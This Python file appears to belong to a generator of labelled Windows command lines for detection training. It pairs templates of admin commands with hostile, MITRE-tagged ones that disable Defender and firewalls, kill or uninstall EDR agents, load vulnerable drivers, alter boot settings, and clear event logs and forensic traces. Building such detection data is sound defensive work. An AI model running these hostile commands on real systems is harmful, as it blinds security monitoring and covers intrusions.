"""Guards, logs and firewalls switched off from the command line, and admins, vendors and policies that set the same things."""

from __future__ import annotations

from generator.families.windows.execution_table import harmless, hostile

hostile("defender-weakened-by-powershell", "Defense Evasion", "T1562.001", r"""
powershell Set-MpPreference -DisableRealtimeMonitoring «$true|1»
powershell -w hidden -c "Set-MpPreference -DisableIOAVProtection $true -DisableBehaviorMonitoring $true -DisableBlockAtFirstSeen $true"
powershell.exe -Command "Set-MpPreference -DisableScriptScanning 1; Set-MpPreference -DisableArchiveScanning 1 -EnableControlledFolderAccess Disabled"
powershell Add-MpPreference -ExclusionPath '«C:\|C:\Users|C:\ProgramData|~d~|C:\Windows\Temp»'
powershell -nop -c Add-MpPreference -ExclusionExtension «exe|dll|.exe|ps1|bat|vbs|@word@»
powershell.exe Add-MpPreference -ExclusionProcess "~f~.exe" -Force
powershell -ep bypass Set-MpPreference -MAPSReporting Disabled -SubmitSamplesConsent NeverSend -PUAProtection disable
powershell Set-MpPreference -«LowThreatDefaultAction|HighThreatDefaultAction|SevereThreatDefaultAction|ModerateThreatDefaultAction» «Allow|6» -Force
powershell -c Uninstall-WindowsFeature -Name Windows-Defender
powershell -e ⟦Set-MpPreference -DisableRealtimeMonitoring $true⟧
powershell "Remove-MpPreference -AttackSurfaceReductionRules_Ids 9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2"
powershell Set-MpPreference -ExclusionIpAddress @pub@
powershell "Get-CimInstance -Namespace root\Microsoft\Windows\Defender MSFT_MpPreference | Invoke-CimMethod -MethodName Set -Arguments @{DisableRealtimeMonitoring=$true}"
wmic /namespace:\\root\Microsoft\Windows\Defender class MSFT_MpPreference call Add ExclusionPath="~d~"
"C:\Program Files\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All
powershell -c "Set-MpPreference -UILockdown 1 -DisableIntrusionPreventionSystem 1 -Force"
""", weight=1.3)
hostile("defender-weakened-by-registry", "Defense Evasion", "T1562.001 T1112", r"""
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v «DisableAntiSpyware|DisableAntiVirus|DisableRoutinelyTakingAction|ServiceKeepAlive|PUAProtection» /t REG_DWORD /d 1 /f
reg.exe add "HKLM\Software\Policies\Microsoft\Windows Defender\Real-Time Protection" /v «DisableRealtimeMonitoring|DisableBehaviorMonitoring|DisableOnAccessProtection|DisableScanOnRealtimeEnable|DisableIOAVProtection» /t REG_DWORD /d 1 /f
reg add "HKLM\SOFTWARE\Microsoft\Windows Defender\Features" /v TamperProtection /t REG_DWORD /d «0|4» /f
reg add "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\«Paths|Processes|Extensions»" /v "«~d~|~n~.exe|exe»" /t REG_DWORD /d 0 /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Spynet" /v «SpynetReporting|SubmitSamplesConsent» /t REG_DWORD /d «0|2» /f
reg add "HKLM\SYSTEM\CurrentControlSet\Services\«WinDefend|WdNisSvc|WdFilter|WdBoot|Sense|SecurityHealthService|WdNisDrv»" /v Start /t REG_DWORD /d 4 /f
reg delete "HKLM\SYSTEM\CurrentControlSet\Services\«WinDefend|Sense|WdFilter»" /f
reg delete "HKCR\*\shellex\ContextMenuHandlers\EPP" /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows\System" /v EnableSmartScreen /t REG_DWORD /d 0 /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender Security Center\Notifications" /v DisableNotifications /t REG_DWORD /d 1 /f
regedit.exe /s ~d~«disable_defender|dfnd|off|wd».reg
reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\CI\Config" /v VulnerableDriverBlocklistEnable /t REG_DWORD /d 0 /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\DeviceGuard\Scenarios\HypervisorEnforcedCodeIntegrity" /v Enabled /t REG_DWORD /d 0 /f
schtasks /Change /TN "Microsoft\Windows\Windows Defender\Windows Defender «Cache Maintenance|Cleanup|Scheduled Scan|Verification»" /Disable
reg add "HKLM\SOFTWARE\Policies\Microsoft\Internet Explorer\PhishingFilter" /v EnabledV9 /t REG_DWORD /d 0 /f & ~f~.exe
""", weight=1.3)
hostile("guards-stopped-and-killed", "Defense Evasion", "T1562.001", r"""
sc stop «WinDefend|Sense|MBAMService|SAVService|ekrn|CSFalconService|SentinelAgent|CylanceSvc|xagt|TmCCSF|ntrtscan|McAfeeFramework|Sysmon64|Sysmon|CarbonBlack|wazuhsvc|"Elastic Agent"»
sc config «WinDefend|Sense|SepMasterService|SAVService|ekrn|wscsvc|MBAMService|bdredline» start= disabled
sc.exe delete «WinDefend|SentinelAgent|CSFalconService|"Sophos MCS Agent"|klnagent|Sysmon64|osqueryd»
net stop «"Sophos Endpoint Defense Service"|"Symantec Endpoint Protection"|McShield|mfemms|TmListen|ekrn|AVP|"Malwarebytes Service"|"Kaspersky Security Service"|"Bitdefender Endpoint Security Service"|wazuhsvc|SentinelAgent» /y
taskkill /f /im «MsMpEng|SophosFileScanner|SentinelAgent|CSFalconService|ekrn|avp|bdservicehost|mbamservice|TmListen|cb|RepMgr|elastic-agent|Sysmon64|NisSrv|SecurityHealthService|MsSense|xagt».exe
fltMC.exe unload «SysmonDrv|WdFilter|CyProtectDrv|MfeEpeOpal|SentinelMonitor|hmpalert»
Sysmon64.exe -u force
~d~Sysmon.exe -u
wmic product where "name like '%%«Sophos|ESET|Kaspersky|Symantec|Trend Micro|Bitdefender|McAfee|Carbon Black»%%'" call uninstall /nointeractive
powershell -c "Get-Service *«sophos|sentinel|defend|cylance|symantec»* | Stop-Service -Force; Get-Service *«sophos|sentinel»* | Set-Service -StartupType Disabled"
powershell "Get-Process MsMpEng,NisSrv,MsSense | Stop-Process -Force"
~d~«EDRSilencer|EDRKillShifter|Backstab|Terminator|AuKill|PCHunter64|GMER|ProcessHacker|IObitUnlocker|defendercontrol|dControl|PowerTool64|TDSSKiller|YDArk|RealBlindingEDR|SpyBoy|avKill|PoorTry».exe «blockedr|/D|-n MsMpEng.exe -k|-dcsvc WinDefend|»
"C:\ProgramData\Symantec\smc.exe" -stop
"C:\Program Files\SentinelOne\Sentinel Agent 22.3\SentinelCtl.exe" unload -slam -k "@hex@@hex@"
"C:\Program Files (x86)\Sophos\Endpoint Defense\SEDcli.exe" -TPoff @pw@
"C:\Program Files (x86)\Kaspersky Lab\KES.12\avp.com" stop «FM|rtp» /login=@user@ /password=@pw@
reg add "HKLM\SYSTEM\CurrentControlSet\Services\Sophos Endpoint Defense\TamperProtection\Config" /v SEDEnabled /t REG_DWORD /d 0 /f
for %p in (MsMpEng.exe ekrn.exe avp.exe SavService.exe) do taskkill /f /t /im %p
""", weight=1.5)
hostile("firewall-opened-by-strangers", "Defense Evasion", "T1562.004", r"""
netsh advfirewall set «allprofiles|currentprofile|publicprofile|domainprofile» state off
netsh firewall set opmode «disable|mode=disable»
NetSh Advfirewall set allprofiles state off & net stop mpssvc
netsh advfirewall firewall add rule name="«Core Networking|@word@|Open Port|RDP|svchost»" dir=in action=allow program="~f~.exe" enable=yes
netsh advfirewall firewall add rule name="~n~" dir=in action=allow protocol=TCP localport=«4444|1337|5985|31337|8443|445|3389»
netsh advfirewall firewall set rule group="«remote desktop|Network Discovery|File and Printer Sharing»" new enable=Yes & reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
powershell Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
powershell -w hidden New-NetFirewallRule -DisplayName '~n~' -Direction Inbound -Action Allow -Program ~f~.exe
netsh advfirewall firewall add rule name="Block «Defender|Sophos|CrowdStrike|Updates»" dir=out action=block program="C:\Program Files\«Windows Defender\MsMpEng|Windows Defender Advanced Threat Protection\MsSense|Sophos\Sophos MCS Agent\McsClient|CrowdStrike\CSFalconService|SentinelOne\SentinelAgent».exe"
reg add "HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\«StandardProfile|PublicProfile|DomainProfile»" /v EnableFirewall /t REG_DWORD /d 0 /f
sc stop MpsSvc & sc config MpsSvc start= disabled
netsh firewall add allowedprogram ~f~.exe "~n~" ENABLE
powershell Remove-NetFirewallRule -All
netsh advfirewall firewall delete rule name=all
cmd /c echo @pub@ «update.eset.com|definitionupdates.microsoft.com|sophosupd.com» >> C:\Windows\System32\drivers\etc\hosts
""", weight=1.2)
hostile("event-recording-impaired", "Defense Evasion", "T1562.002", r"""
auditpol /set /category:"«Account Logon|Logon/Logoff|Detailed Tracking|Object Access|Policy Change»" /success:disable /failure:disable
auditpol.exe /clear /y
auditpol /remove /allusers
auditpol /set /subcategory:"{0CCE922B-69AE-11D9-BED3-505054503030}" /success:disable
auditpol /restore /file:~d~~n~.csv
wevtutil sl «Security|Microsoft-Windows-Sysmon/Operational|Microsoft-Windows-PowerShell/Operational|"Microsoft-Windows-Windows Defender/Operational"|System» /e:false
wevtutil.exe set-log Microsoft-Windows-TaskScheduler/Operational /enabled:false /quiet:true
sc config eventlog start= disabled
net stop eventlog /y
taskkill /F /FI "SERVICES eq eventlog"
reg add "HKLM\SYSTEM\CurrentControlSet\Services\EventLog\Security" /v «MaxSize|Retention|CustomSD» /t REG_DWORD /d 1 /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\«ScriptBlockLogging|ModuleLogging|Transcription»" /v «EnableScriptBlockLogging|EnableModuleLogging|EnableTranscripting» /t REG_DWORD /d 0 /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\WMI\Autologger\«EventLog-Application|EventLog-Security|DefenderApiLogger|DefenderAuditLogger|EventLog-Microsoft-Windows-Sysmon-Operational»" /v Start /t REG_DWORD /d 0 /f
logman stop EventLog-«Microsoft-Windows-Sysmon-Operational|Application|System» -ets
logman update trace EventLog-Application --p Microsoft-Windows-PowerShell -ets
reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit" /v ProcessCreationIncludeCmdLine_Enabled /t REG_DWORD /d 0 /f
C:\Windows\System32\inetsrv\appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:true
powershell -c "Remove-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\WMI\Autologger\EventLog-System\{@guid@} -Name Enabled"
powershell "Set-EtwTraceProvider -Guid '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' -AutologgerName EventLog-Application -Property 0x11"
~d~«Phant0m|EvtMute|SysmonQuiet|Invoke-Phant0m|SharpEvtMute|evtxhush».exe «--Filter "1"|-1|»
""", weight=1.3)
hostile("logs-cleared-by-command", "Log Clearing", "T1070.001", r"""
wevtutil cl «Security|System|Application|Setup|"Windows PowerShell"|Microsoft-Windows-Sysmon/Operational|Microsoft-Windows-PowerShell/Operational|Microsoft-Windows-TerminalServices-LocalSessionManager/Operational|"Microsoft-Windows-Windows Defender/Operational"»
wevtutil.exe clear-log «Security|System»
for /f "tokens=*" %a in ('wevtutil el') do wevtutil cl "%a"
cmd.exe /c "wevtutil cl system & wevtutil cl security & wevtutil cl application & fsutil usn deletejournal /D C:"
powershell Clear-EventLog -LogName «Security|System|Application,Security,System|"Windows PowerShell"»
powershell -nop "wevtutil el | Foreach-Object {wevtutil cl \"$_\"}"
powershell Get-WinEvent -ListLog * -Force ^| % {Wevtutil.exe cl $_.logname}
powershell "Remove-EventLog -LogName «Application|Security»"
powershell "[Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')"
wmic nteventlog where "LogFileName='«System|Security»'" Call ClearEventlog
del /f /q C:\Windows\System32\winevt\Logs\*.evtx
taskkill /F /FI "SERVICES eq eventlog" & del C:\Windows\System32\winevt\Logs\Security.evtx
powershell Limit-EventLog -LogName Security -MaximumSize 64KB -OverflowAction OverwriteAsNeeded; Clear-EventLog Security
~d~«EventCleaner|Eventlogedit|ElsaveTool|DanderSpritz_elx».exe «closehandle|suspend|del 4624|-l security -C»
cscript ~d~clearlog.vbs //b
""", weight=1.2)
hostile("other-traces-wiped", "Log Clearing", "T1070.004 T1070 T1070.003", r"""
fsutil usn deletejournal /«D|N» «C|D»:
fsutil.exe usn deletejournal /D C: & del /f /s /q %TEMP%\*.*
del /f /q C:\Windows\Prefetch\*.pf
powershell -c "Remove-Item (Get-PSReadlineOption).HistorySavePath -Force; Set-PSReadlineOption -HistorySaveStyle SaveNothing"
powershell Clear-History; del $env:APPDATA\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt
reg delete "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\«RunMRU|TypedPaths|UserAssist|RecentDocs»" /f
reg delete "HKCU\Software\Microsoft\Terminal Server Client\«Default|Servers»" /va /f & del /ah %USERPROFILE%\Documents\Default.rdp
ping 127.0.0.1 -n «3|5|7» > nul & del /f /q "~f~.exe"
cmd.exe /C choice /C Y /N /D Y /T «3|5» & Del "~f~.exe"
sdelete64.exe -accepteula -nobanner -p «3|7» -r ~d~
reg delete HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\AppCompatCache /va /f
vssadmin delete shadows /for=C: /oldest & fsutil usn deletejournal /d c:
erase /f /q C:\Windows\Minidump\*.dmp C:\Windows\AppCompat\Programs\Amcache.hve
""")
hostile("boot-settings-against-guards", "Defense Evasion", "T1562 T1562.001", r"""
bcdedit /set {«default|current»} safeboot «network|minimal»
bcdedit.exe /set {current} safeboot network & shutdown /r /f /t 0
bcdedit /set testsigning on
bcdedit.exe -set TESTSIGNING ON & shutdown -r -t 0
bcdedit /set nointegritychecks on
bcdedit /set {current} disableelamdrivers yes
reg add "HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\«Network|Minimal»\~n~" /ve /t REG_SZ /d Service /f
reg add HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Network\AnyDesk /ve /d Service /f & bcdedit /set {default} safeboot network
bootcfg /raw /a /safeboot:network /id 1
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v AutoAdminLogon /d 1 /f & bcdedit /set {current} safeboot minimal
""", severity="CRITICAL")
hostile("vulnerable-driver-loaded", "Privilege Escalation", "T1068 T1543.003 T1562.001", r"""
sc create «RTCore64|dbutil|gdrv|PROCEXP152|zam64|kprocesshacker|mhyprot2|aswArPot|~n~» binPath= "~d~«RTCore64|dbutil_2_3|gdrv|PROCEXP|zamguard64|KProcessHacker|mhyprot2|aswArPot|iqvw64e|truesight|rwdrv|ThrottleStop».sys" type= kernel start= demand
sc.exe create ~n~ type= kernel start= demand error= normal binPath= ~f~.sys
sc start «RTCore64|gdrv|zam64|mhyprot2|truesight|iqvw64e» & ~f~.exe
~d~kdu.exe -«map|dse|ps» ~f~.sys
~d~kdmapper.exe ~f~.sys
~d~«PPLKiller|PPLcontrol|Backstab64|EDRSandblast|CheekyBlinder|dsefix|gdrv-loader».exe «/disablePPL|unprotect @pid@|--kernelmode|-n MsMpEng.exe -k|»
~d~EDRSandBlast.exe audit --kernelmode --vuln-driver ~d~RTCore64.sys
reg add HKLM\SYSTEM\CurrentControlSet\Services\~n~ /v ImagePath /t REG_EXPAND_SZ /d "\??\~f~.sys" /f
~d~«TrueSightKiller|Terminator|ZemanaKill|NimBlackout|SharpTerminator».exe «-p @pid@|-n MsMpEng.exe|»
copy ~d~«gdrv|procexp152|RTCore64».sys C:\Windows\System32\drivers\ & sc create ~n~ type= kernel binPath= C:\Windows\System32\drivers\~n~.sys
""", severity="CRITICAL")

harmless("defender-set-by-admins-and-policies", "Administration", r"""
powershell Get-MpPreference ^| Select ExclusionPath,ExclusionProcess
powershell -c "Get-MpComputerStatus"
powershell Add-MpPreference -ExclusionPath "«D:\SQLData|C:\Program Files\Microsoft SQL Server|E:\VeeamBackup|C:\Program Files\Microsoft\Exchange Server\V15|C:\ProgramData\Docker|D:\Hyper-V»"
powershell Add-MpPreference -ExclusionProcess "«sqlservr.exe|vmms.exe|vmwp.exe|Veeam.Backup.Manager.exe|devenv.exe|store.exe»"
powershell -Command "Set-MpPreference -ScanScheduleDay 6 -ScanScheduleTime 02:00:00 -RemediationScheduleDay 0"
powershell Set-MpPreference -DisableRealtimeMonitoring $false
powershell -c "Set-MpPreference -PUAProtection Enabled -EnableNetworkProtection Enabled -MAPSReporting Advanced"
powershell Set-MpPreference -AttackSurfaceReductionRules_Ids d4f940ab-401b-4efc-aadc-ad5f3c50688a -AttackSurfaceReductionRules_Actions AuditMode
powershell Update-MpSignature -UpdateSource MicrosoftUpdateServer
powershell Start-MpScan -ScanType QuickScan
powershell Remove-MpThreat
"C:\Program Files\Windows Defender\MpCmdRun.exe" -«SignatureUpdate|GetFiles|Scan -ScanType 2|Restore -ListAll|ValidateMapsConnection|RemoveDefinitions -DynamicSignatures|wdenable»
reg query "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /s
reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Scan" /v DisableRemovableDriveScanning /t REG_DWORD /d 0 /f
reg delete "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /f
reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v RunAsPPL /t REG_DWORD /d 1 /f
powershell Install-WindowsFeature -Name Windows-Defender
powershell -File "C:\Program Files\Windows Defender Advanced Threat Protection\MDEClientAnalyzer.ps1" -l -r
schtasks /Run /TN "Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan"
""", weight=1.3)
harmless("guards-installed-and-serviced", "Software Update", r"""
sc query «WinDefend|Sense|SAVService|ekrn|CSFalconService|SentinelAgent|MBAMService|wazuhsvc»
sc config «wazuhsvc|SentinelAgent|"Elastic Agent"|Sysmon64» start= delayed-auto
net start «"Sophos AutoUpdate Service"|wazuhsvc|"ESET Service"|MBAMService»
net stop wazuhsvc & timeout 3 & net start wazuhsvc
Sysmon64.exe -accepteula -i C:\Tools\sysmonconfig.xml
"C:\Windows\Sysmon64.exe" -c \\~s~\sysmon\config.xml
C:\Windows\Temp\SophosSetup.exe --quiet --messagerelays=@ip@:8190
"C:\Program Files\Sophos\Sophos Endpoint Agent\uninstallcli.exe" --quiet
"C:\Program Files (x86)\Trend Micro\Security Agent\PccNTMon.exe" -«u|m|HideWindow»
WindowsSensor.exe /install /quiet /norestart CID=@hex@@hex@@hex@
"C:\Program Files\SentinelOne\Sentinel Agent 23.4\SentinelCtl.exe" status
"C:\Program Files (x86)\Kaspersky Lab\KES.12\avp.com" update
msiexec /x {@guid@} /qn KLLOGIN=@user@ KLPASSWD=@pw@
"C:\Program Files\ESET\ESET Security\ecls.exe" /base-dir="C:\Program Files\ESET\ESET Security\Modules" D:\ /log-file=C:\Logs\scan.txt
fltMC.exe instances
fltmc filters
"C:\Program Files\Malwarebytes\Anti-Malware\mbam.exe" --silent
"C:\ProgramData\Symantec\smc.exe" -p @pw@ -updateconfig
"C:\Program Files\Bitdefender\Endpoint Security\product.console.exe" /c StartUpdate
"C:\Program Files\Elastic\Agent\elastic-agent.exe" restart
taskkill /im SophosUI.exe
""")
harmless("firewall-rules-of-programs-and-admins", "Administration", r"""
netsh advfirewall firewall add rule name="«~v~|~v~ Discovery|SQL Server|ERP Client|Nagios NRPE|Zabbix Agent|TeamViewer|Zoom» " dir=in action=allow program="C:\Program Files\~v~\«service|client|agent».exe" enable=yes profile=domain,private
netsh advfirewall firewall add rule name="«SQL 1433|ICMPv4|HTTP in|Syslog|NRPE»" dir=in action=allow protocol=TCP localport=«1433|80|443|5666|10050|514|8080»
netsh advfirewall firewall delete rule name="~v~ Updater"
netsh advfirewall show «allprofiles|currentprofile»
netsh advfirewall set allprofiles state on
netsh advfirewall set currentprofile logging droppedconnections enable
netsh advfirewall export C:\Backup\fw_@n@.wfw
netsh advfirewall reset
netsh advfirewall firewall set rule group="«Remote Desktop|Windows Management Instrumentation (WMI)|File and Printer Sharing»" new enable=Yes
netsh.exe firewall add allowedprogram "C:\Program Files (x86)\~v~\~v~.exe" "~v~" ENABLE
powershell New-NetFirewallRule -DisplayName "«Allow WinRM|PRTG Probe|Docker NAT|SSH»" -Direction Inbound -Protocol TCP -LocalPort «5985|23560|22|2375» -Action Allow -RemoteAddress LocalSubnet
powershell Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True
powershell Get-NetFirewallRule -Enabled True ^| Export-Csv C:\Temp\fw.csv
netsh advfirewall firewall add rule name="Block «Telnet|SMB outbound|Adobe telemetry»" dir=out action=block remoteport=«23|445|443»
netsh wfp show state
netsh int ip reset C:\Temp\reset.log
netsh winsock reset
""", weight=1.2)
harmless("audit-and-logs-kept-by-admins", "Administration", r"""
auditpol /get /category:*
auditpol /set /subcategory:"«Process Creation|Logon|Kerberos Service Ticket Operations|File Share»" /success:enable /failure:enable
auditpol /backup /file:C:\Backup\audit.csv
auditpol /set /category:"Account Logon" /failure:enable
wevtutil qe «System|Application|Security» /c:20 /rd:true /f:text
wevtutil epl «Security|System» D:\Archive\@host@_@n@.evtx
wevtutil sl «Security|Application|Microsoft-Windows-PowerShell/Operational» /ms:«209715200|1073741824»
wevtutil sl Microsoft-Windows-DriverFrameworks-UserMode/Operational /e:true
wevtutil.exe set-log Microsoft-Windows-PrintService/Operational /enabled:true
wevtutil gl Security
wevtutil im "C:\Program Files\~v~\manifest.man" /rf:"C:\Program Files\~v~\msg.dll" /mf:"C:\Program Files\~v~\msg.dll"
wevtutil um "C:\Program Files\~v~\events.man"
wevtutil sl Microsoft-Windows-CAPI2/Operational /e:«true|false»
wevtutil cl Microsoft-Windows-PrintService/Operational
powershell Get-WinEvent -FilterHashtable @{LogName='Security';Id=«4625|4740|4688»} -MaxEvents 50
powershell Limit-EventLog -LogName Security -MaximumSize 1GB -OverflowAction OverwriteAsNeeded
powershell New-EventLog -LogName Application -Source "~v~"
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\«ScriptBlockLogging|ModuleLogging»" /v «EnableScriptBlockLogging|EnableModuleLogging» /t REG_DWORD /d 1 /f
logman start "System Perf" -ets
logman create counter Baseline -c "\Processor(_Total)\% Processor Time" -o C:\PerfLogs\base.blg
logman stop DiagTrack-Listener -ets
fsutil usn queryjournal C:
fsutil usn createjournal m=1000 a=100 D:
""", weight=1.3)
harmless("rooms-made-by-cleanups", "Scheduled Job", r"""
cleanmgr.exe /sagerun:«1|64|99»
del /q /f /s %TEMP%\*
cmd /c rd /s /q C:\Windows\SoftwareDistribution\Download
cmd.exe /C choice /C Y /N /D Y /T 3 & Del "~t~setup.exe"
ping 127.0.0.1 -n 3 > nul & rmdir /s /q "~t~unpack"
cmd /c timeout /t 2 & del /f "C:\Users\@user@\AppData\Local\Temp\~v~_uninst.exe"
del C:\inetpub\logs\LogFiles\W3SVC1\u_ex2301*.log
forfiles /p C:\Logs /m *.log /d -30 /c "cmd /c del @file"
powershell "Get-ChildItem C:\Windows\Prefetch | Measure-Object -Sum Length"
sdelete64.exe -z D:
cipher /w:D:\Altakten
"C:\Program Files\CCleaner\CCleaner64.exe" /AUTO
C:\Windows\System32\rundll32.exe advapi32.dll,ProcessIdleTasks
Dism.exe /online /Cleanup-Image /StartComponentCleanup /ResetBase
defrag C: /O /U
powershell Clear-RecycleBin -Force
"C:\Program Files\BleachBit\bleachbit_console.exe" --clean system.tmp system.prefetch
""")
harmless("boot-and-drivers-by-admins", "Administration", r"""
bcdedit
bcdedit /enum all
bcdedit /deletevalue {current} safeboot
bcdedit /set hypervisorlaunchtype «auto|off»
bcdedit /timeout 5
bcdedit /export C:\Backup\bcd
bcdedit /set {default} bootmenupolicy legacy
bcdedit /set {current} description "Windows 11 Pro"
bcdedit /set useplatformclock false
pnputil /add-driver "~t~*.inf" /subdirs /install
pnputil /enum-drivers
pnputil /delete-driver oem@n@.inf /uninstall
sc create «npcap|vmmemctl|rtux64w10|cpuz154|HWiNFO|VBoxSup» binPath= "C:\Windows\System32\drivers\«npcap|vmmemctl|rtux64|cpuz154_x64|HWiNFO64A|VBoxSup».sys" type= kernel start= auto
sc query type= driver
sc start «npcap|VBoxDrv|wireguard|HWiNFO»
"C:\Windows\System32\driverquery.exe" /v /fo csv
verifier /querysettings
devcon.exe rescan
"C:\Program Files\Intel\SUR\QUEENCREEK\x64\esrv_svc.exe" --AUTO_START --start_options_registry_key
"C:\Program Files\Process Hacker 2\ProcessHacker.exe"
C:\Tools\procexp64.exe /accepteula
""")
